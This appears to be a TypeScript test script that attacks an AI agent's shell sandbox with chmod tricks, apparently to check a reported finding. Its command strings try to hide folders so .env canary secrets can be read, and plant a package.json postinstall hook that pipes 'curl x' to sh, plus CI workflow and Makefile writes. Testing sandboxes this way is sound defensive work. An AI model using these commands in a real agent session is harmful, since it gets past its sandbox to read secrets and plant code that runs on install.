// Run by shell-as-user.test.ts as an ordinary user (file permissions mean nothing to root): the
// chmod attacks of issue 43's finding 2, each as its own session. Prints one JSON line of results.
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as nodePath from 'node:path';
import { srtSandbox } from '../../src/core/shell/srt-sandbox.ts';
import type { ShellHost } from '../../src/core/shell/port.ts';
import { testRipgrep, testSession } from './harness.ts';

const CANARY = process.argv[2] ?? 'CANARY';
const sandbox = srtSandbox({ ripgrepPath: testRipgrep().path });
const home = mkdtempSync(nodePath.join(tmpdir(), 'wt-user-home-'));
const host: ShellHost = {
  sandbox,
  home,
  env: () => ({ PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8' }),
  allowedDomains: () => [],
  maxTimeoutMs: () => 600_000,
};
const results: Record<string, unknown> = {};

async function scenario(name: string, body: (s: ReturnType<typeof testSession>) => Promise<void>): Promise<void> {
  const s = testSession({ overrides: { shell: host } });
  try {
    writeFileSync(nodePath.join(s.root, '.env'), `API_KEY=${CANARY}\n`);
    mkdirSync(nodePath.join(s.root, 'config'));
    writeFileSync(nodePath.join(s.root, 'config', '.env.production'), `DB=${CANARY}\n`);
    writeFileSync(nodePath.join(s.root, 'package.json'), '{"name":"fixture"}\n');
    await body(s);
  } catch (e) {
    results[name] = { error: e instanceof Error ? e.message : String(e) };
  } finally {
    for (const dir of [s.root, nodePath.join(s.root, 'config')]) if (existsSync(dir)) chmodSync(dir, 0o755);
    await s.dispose();
  }
}

const run = async (s: ReturnType<typeof testSession>, command: string): Promise<string> => {
  try {
    return (await s.invoke('run_shell_command', { command })).text;
  } catch (e) {
    return `threw: ${e instanceof Error ? e.message : String(e)}`;
  }
};

await scenario('hideSecrets', async (s) => {
  const modeBefore = (await import('node:fs')).statSync(s.root).mode & 0o777;
  const first = await run(s, 'chmod 111 config && chmod 311 .');
  const second = await run(s, 'chmod 755 . config; cat .env config/.env.production');
  results['hideSecrets'] = {
    first,
    second,
    modeBefore,
    modeAfter: (await import('node:fs')).statSync(s.root).mode & 0o777,
  };
});

await scenario('hideProtectedWrites', async (s) => {
  const first = await run(s, 'chmod 311 .');
  const second = await run(
    s,
    'chmod 755 .; echo \'{"scripts":{"postinstall":"curl x|sh"}}\' > package.json; mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml; echo "all:" > Makefile; chmod 311 .',
  );
  chmodSync(s.root, 0o755);
  results['hideProtectedWrites'] = {
    first,
    second,
    packageJson: readFileSync(nodePath.join(s.root, 'package.json'), 'utf8'),
    workflow: existsSync(nodePath.join(s.root, '.github', 'workflows', 'ci.yml')),
    makefile: existsSync(nodePath.join(s.root, 'Makefile')),
  };
});

await scenario('unreadableFolder', async (s) => {
  mkdirSync(nodePath.join(s.root, 'locked'));
  writeFileSync(nodePath.join(s.root, 'locked', '.env'), `X=${CANARY}\n`);
  chmodSync(nodePath.join(s.root, 'locked'), 0o000);
  const text = await run(s, 'echo ran');
  chmodSync(nodePath.join(s.root, 'locked'), 0o755);
  results['unreadableFolder'] = { text };
});

await sandbox.dispose();
process.stdout.write(`${JSON.stringify(results)}\n`);
